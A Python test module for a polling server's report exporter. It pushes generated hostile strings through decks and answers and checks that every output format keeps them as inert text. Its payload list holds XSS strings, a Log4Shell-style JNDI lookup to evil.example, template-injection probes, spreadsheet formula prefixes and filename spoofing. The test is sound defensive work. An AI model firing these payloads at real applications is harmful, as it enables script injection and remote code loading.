"""What somebody hostile writes, through every field of a deck and every answer into every file.

    python -m tests.hostile                  # 2,000 strings and more, in German and English
    python -m tests.hostile --strings 5000

Each string has a mark of its own, by which it is found again in a file; there it must stand whole,
as text. A deck's strings go through a deck file first, answers through their question's check.
"""

import argparse
import csv
import io
import json
import random
import re
import tempfile
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

from openpyxl import load_workbook
from pypdf import PdfReader

from poll_server.deck import deck
from poll_server.live.state import RoundResults
from poll_server.questions import AnyQuestion
from poll_server.questions.kind import Sentence
from poll_server.questions.kinds.choice import Choice
from poll_server.questions.kinds.scale import Scale
from poll_server.questions.kinds.text import OpenText
from poll_server.questions.kinds.words import Words
from poll_server.questions.writing.written import clean
from poll_server.report import FORMATS, Cut, Report, build, render
from poll_server.report.chart_files import chart_files
from poll_server.report.csv import FORMULA_STARTS
from poll_server.report.html import page
from poll_server.report.office import plain
from poll_server.report.pdf import pdf
from tests.support.office_files import sound, texts
from tests.support.report_cases import HOSTILE, outcome
from tests.support.web_page import Page

STARTS = (*FORMULA_STARTS[:4], "=1+", "@SUM(", "＝", "  =", "'", '"', ";", ",", "<", "&", "%", "#")
PIECES = (
    *HOSTILE,
    "<a href='https://evil.example' onclick=alert(1)>hier</a>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<![CDATA[x]]>",
    "&lt;b&gt; &#x41; &nbsp;",
    "<w:p/> <a:t> <c:f>A1</c:f>",
    '#import "@preview/evil:1.0.0": *',
    "$x^2$ *bold* _soft_ `raw` <label> @ref = Heading",
    '#link("https://evil.example")[hier]',
    "[Verweis](https://evil.example) **fett** ~~weg~~",
    "https://evil.example/?a=b&c=d#e",
    "\\u003cscript\\u003e \\x3c %3Cscript%3E",
    "${jndi:ldap://evil.example} {{7*7}} <%= 7*7 %> #{7*7}",
    "_x000D_ _x005F_ \\r\\n \\0",
    "ÄÖÜ äöü ß ẞ é e\u0301 ñ Ǆ ﬁ İ ı",
    "中文 日本語 한국어 हिन्दी ไทย",
    "👩\u200d👩\u200d👧\u200d👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 𝕳𝖆𝖑𝖑𝖔 𠜎",
    "مرحبا 123 בעברית abc",
    "a\u00a0b\u202fc\u2009d\u3000e",
    "Donaudampfschifffahrtsgesellschaftskapitänswitwenrentenauszahlungsstelle",
    "1e999 -0 NaN 0x10 TRUE 1/2 12:30 2018-09-20",
)
"""Parts of strings that a deck may hold."""
UNSEEN = ("\u202egnp.exe", "\u200b", "\u2066x\u2069", "\x00", "\x1b[2J", "\ufeff", "\u0301" * 9)
"""Parts that only phones send; a deck with them is refused, and an answer is cleaned of them."""
LONGEST_ANSWER, LONGEST_WORD = 140, 40
"""Characters of a text and of a word in a cloud that a phone may send."""
MARK = re.compile(r"q\d{5}z")
TOGETHER = 115
"""About as many strings as one event holds here."""


class Strings:
    """A source of hostile strings, each with its mark; the same seed gives the same."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)
        self.all: list[str] = []

    def for_deck(self, most: int = 200) -> str:
        """A string that a deck may hold."""
        return self._new(PIECES, most)

    def for_phone(self, most: int = LONGEST_ANSWER) -> str:
        """A string that a phone may send."""
        return self._new((*PIECES, *UNSEEN), most)

    def _new(self, pieces: tuple[str, ...], most: int) -> str:
        mark = f"q{len(self.all):05}z "  # apart: a mark for the letter before would be joined to it
        start, first, last = self.chance.choice(STARTS), *self.chance.choices(pieces, k=2)
        room = most - len(mark) - len(start)
        text = f"{start}{first[: room // 2]}{mark}{last[: room // 2]}".rstrip()
        self.all.append(text)
        return text


class Harmless(Strings):
    """Strings that nobody minds, for what a file looks like with them."""

    def _new(self, pieces: tuple[str, ...], most: int) -> str:
        text = f"q{len(self.all):05}z Text"
        self.all.append(text)
        return text


@dataclass(frozen=True)
class Case:
    """An event full of hostile strings, and those of them that a file of results shows."""

    event: deck.Event
    rounds: list[RoundResults]
    heads: list[str]
    """titles and names: not in tables of data"""
    asked: list[str]
    """prompts and answer possibilities"""
    answered: list[str]
    """what phones sent"""
    said: list[str]
    """sentences"""

    @cached_property
    def report(self) -> Report:
        """The report of the event's one poll, which shows every field."""
        (poll,), (language,) = self.event.polls, self.event.languages
        return build(self.event.id, self.event, Cut({poll.id: self.rounds}), language, only=poll.id)


def case(strings: Strings, language: str) -> Case:
    """The next event; its deck went through a file, its answers through their questions."""
    new, sent = strings.for_deck, strings.for_phone
    options = [tuple(new(120) for _ in range(10)) for _ in range(2)]
    said = [new(120) for _ in range(2)]
    prompts = [new() for _ in range(5)]
    statements, labels = tuple(new(120) for _ in range(4)), tuple(new(40) for _ in range(5))
    questions: list[AnyQuestion] = [
        Choice(
            id=f"choice-{n}",
            prompt=prompts[n],
            hint=new(),
            notes=new(),
            options=options[n],
            most=2,
            other=True,
            sentences=(Sentence(said[n].replace("{", "(").replace("}", ")"), (options[n][0],)),),
        )
        for n in range(2)
    ]
    questions += [
        Scale(id="scale", prompt=prompts[2], statements=statements, labels=labels),
        Words(id="words", prompt=prompts[3]),
        OpenText(id="text", prompt=prompts[4]),
    ]
    others = [[sent() for _ in range(10)] for _ in range(2)]
    words, thoughts = [sent(LONGEST_WORD) for _ in range(12)], [sent() for _ in range(10)]
    answers: list[list[Any]] = [
        *(
            [{"options": [k]} for k in range(10)] + [{"options": [], "other": o} for o in others[n]]
            for n in range(2)
        ),
        [{"steps": [(k + n) % 5 for n in range(4)]} for k in range(11)],
        [{"words": [word]} for word in words],
        [{"text": thought} for thought in thoughts],
    ]
    event = deck.Event(
        id="hostile",
        title=new(120),
        languages=(language,),
        place=new(),
        date=new(90),
        hosts=tuple(new() for _ in range(3)),
        polls=(
            deck.Poll(
                id="forum-1",
                title=new(120),
                subtitle=new(),
                host=new(),
                questions=tuple(questions),
            ),
        ),
    )
    event = through_a_file(event)
    (poll,) = event.polls
    rounds = [
        outcome(question, given, language, number=number)
        for number, (question, given) in enumerate(zip(poll.questions, answers, strict=True), 1)
    ]
    heads = [str(poll.title), str(poll.subtitle)]
    asked = [*prompts, *options[0], *options[1], *statements, *labels]
    said = [str(s.text) for question in poll.questions for s in question.sentences]
    return Case(event, rounds, heads, asked, [*others[0], *others[1], *words, *thoughts], said)


def through_a_file(event: deck.Event) -> deck.Event:
    """The event, written as a deck and read again: the same, letter for letter."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder:
        file = Path(folder) / "deck.toml"
        file.write_text(deck.write(event), encoding="utf-8")
        read = deck.read(file)
    assert read == event
    return read


# ── What a file must be ───────────────────────────────────────────────────────────────────────


def whole(wanted: Iterable[str], found: Iterable[str]) -> None:
    """Each wanted string stands whole in one of those found, as it was written or cleaned."""
    by_mark: dict[str, list[str]] = {}
    for text in found:
        for mark in MARK.findall(text.replace("\u200b", "")):  # long words may break anywhere
            by_mark.setdefault(mark, []).append(_squeezed(text))
    for text in wanted:
        (mark,) = MARK.findall(text)
        forms = {_squeezed(text), _squeezed(plain(text)), _squeezed(clean(text))}
        there = by_mark.get(mark, [])
        assert any(form in each for form in forms for each in there), (text, there)


def _squeezed(text: str) -> str:
    """Without spaces: where a line breaks or may break, and how a format writes a blank, is not
    the text's."""
    return re.sub(r"[\s\u200b]+", "", text)


def check_csv(content: bytes, case: Case) -> None:
    """No cell is a formula, and every string is in one."""
    source = content.decode("utf-8-sig")
    delimiter = ";" if source.partition("\r\n")[0].count(";") > 3 else ","
    cells = [
        cell for row in csv.reader(io.StringIO(source, newline=""), delimiter=delimiter)
        for cell in row
    ]  # fmt: skip
    assert not [cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS)]
    whole([*case.asked, *case.answered], cells)


def check_xlsx(content: bytes, case: Case) -> None:
    """Texts and numbers only, no link to anywhere, and every string in a cell."""
    parts = sound(content)
    assert not [name for name in parts if "external" in name.lower()]
    for name, part in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            assert b"<f>" not in part
            assert b"<hyperlink" not in part or b"r:id" not in part
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(content))
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    # openpyxl undoes the format's own escape once too often: `_x005F_` comes out as `_`.
    found = [str(cell.value).replace("_x005F_", "_") for cell in cells]
    wanted = [case.heads[0], *case.asked, *case.answered]
    whole([text.replace("_x005F_", "_") for text in wanted], found)


def check_docx(content: bytes, case: Case) -> None:
    """A sound package without links or fields of somebody's, and every string in a paragraph."""
    parts = sound(content)
    body = parts["word/document.xml"]
    # Its links lead to its own headings.
    assert body.count(b"<w:hyperlink") == body.count(b'<w:hyperlink w:anchor="_Toc')
    assert b"evil.example" not in b"".join(p for n, p in parts.items() if n.endswith(".rels"))
    found = texts(parts, r"word/(document|header\d*|footer\d*)\.xml")
    whole([*case.heads, *case.asked, *case.answered, *case.said], found)


def check_pptx(content: bytes, case: Case) -> None:
    """A sound package, workbooks in it without formulas, and every string on a slide."""
    parts = sound(content)
    assert not [part for name, part in parts.items() if b"hlinkClick" in part]
    for name, part in parts.items():
        if name.startswith("ppt/embeddings/"):
            rows = (row for sheet in load_workbook(io.BytesIO(part)) for row in sheet.iter_rows())
            values = [cell for row in rows for cell in row if cell.value is not None]
            assert {cell.data_type for cell in values} <= {"s", "n"}
    found = texts(parts, r"ppt/(slides|charts|notesSlides)/\w+\.xml")
    whole([*case.heads, *case.asked, *case.answered, *case.said], found)


def check_pdf(content: bytes, case: Case) -> None:
    """Conforms (Typst refuses to write it otherwise), does nothing, and bears every mark.

    Letters that no font has are drawn as their names, and next to a right-to-left script even Latin
    signs are read off in another order than they are drawn in: so marks are looked for on the
    pages, and whole strings in what Typst was given, which it shows as strings only.
    """
    whole([*case.heads, *case.asked, *case.answered, *case.said], _strings(pdf.layout(case.report)))
    reader = PdfReader(io.BytesIO(content))
    assert not {"/JavaScript", "/JS", "/URI", "/Launch", "/OpenAction"} & set(reader.root_object)
    for each in reader.pages:
        for note in each.get("/Annots") or ():
            assert "/URI" not in str(note.get_object().get("/A", ""))
    said = _squeezed(" ".join(each.extract_text() for each in reader.pages))
    for text in [*case.heads, *case.asked, *case.answered, *case.said]:
        assert MARK.findall(text)[0] in said, text


def check_json(content: bytes, case: Case) -> None:
    """Every string is there, letter for letter."""
    found = set(_strings(json.loads(content)))
    assert {*case.heads, *case.asked} <= found
    whole([*case.answered, *case.said], found)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list | tuple):
        if isinstance(value, list) and value and isinstance(value[0], dict) and "bold" in value[0]:
            yield "".join(str(run.get("text", "")) for run in value)  # a sentence in pieces
        for each in value.values() if isinstance(value, dict) else value:
            yield from _strings(each)


def check_html(content: bytes, case: Case) -> None:
    """Every string as text; `check` compares elements with those of a harmless event's page."""
    whole([*case.heads, *case.asked, *case.answered, *case.said], ["".join(read(content).text)])


def read(content: bytes) -> Page:
    """A page's elements, attributes, links, scripts and text."""
    found = Page()
    found.feed(content.decode())
    return found


def same_page(hostile: bytes, harmless: bytes) -> None:
    """Nothing that somebody wrote has become an element, an attribute, a link or a script."""
    one, other = read(hostile), read(harmless)
    assert one.tags == other.tags
    assert one.attributes <= other.attributes | {"dir"}
    # Within a page, links lead from a chart to the outlines of its letters.
    assert outside(one) == outside(other)
    assert len(one.scripts) == len(other.scripts)
    assert not [name for name in one.attributes if name.startswith("on")]


def outside(page: Page) -> set[str]:
    """The page's links that leave it."""
    return {link for link in page.links if not link.startswith("#")}


def check_svg(content: bytes) -> None:
    """A picture and nothing else: no script, no link, nothing from elsewhere."""
    root = ElementTree.fromstring(content)
    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert tags <= {"svg", "title", "g", "path", "defs", "symbol", "use", "clipPath", "rect"}, tags
    for element in root.iter():
        assert not [name for name in element.attrib if name.startswith("on")]
        for name, value in element.attrib.items():
            assert not name.endswith("href") or value.startswith("#")


CHECKS: dict[str, Callable[[bytes, Case], None]] = {
    "docx": check_docx,
    "pdf": check_pdf,
    "pptx": check_pptx,
    "xlsx": check_xlsx,
    "csv": check_csv,
    "json": check_json,
    "html": check_html,
}


def check(case: Case, harmless: Case) -> None:
    """Every file of a case: seven formats, the public page, every chart."""
    report, other = case.report, harmless.report
    for format_ in FORMATS:
        content = render(report, format_)
        CHECKS[format_](content, case)
        if format_ == "html":
            same_page(content, render(other, "html"))
    content = page.render(report)
    check_html(content, case)
    same_page(content, page.render(other))
    charts = list(chart_files(report, ["svg", "png"]))
    assert len(charts) == 2 * 4
    for chart in charts:
        content = chart.render()
        if chart.name.endswith("svg"):
            check_svg(content)
        else:
            assert content.startswith(b"\x89PNG")


def main() -> None:
    """So many strings, in events of about a hundred, and how long it took."""
    parser = argparse.ArgumentParser(prog="python -m tests.hostile", description=__doc__)
    parser.add_argument("--strings", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=2018)
    options = parser.parse_args()
    strings, events, began = Strings(options.seed), 0, time.monotonic()
    while len(strings.all) < options.strings:
        language = ("de", "en")[events % 2]
        check(case(strings, language), case(Harmless(0), language))
        events += 1
        print(f"  {len(strings.all)} of {options.strings}", flush=True)
    print(
        f"{len(strings.all)} hostile strings in {events} events, through {len(FORMATS)} formats, "
        f"the public page and every chart: all stand as they were written, none did anything "
        f"({time.monotonic() - began:.0f} s)."
    )


if __name__ == "__main__":
    main()
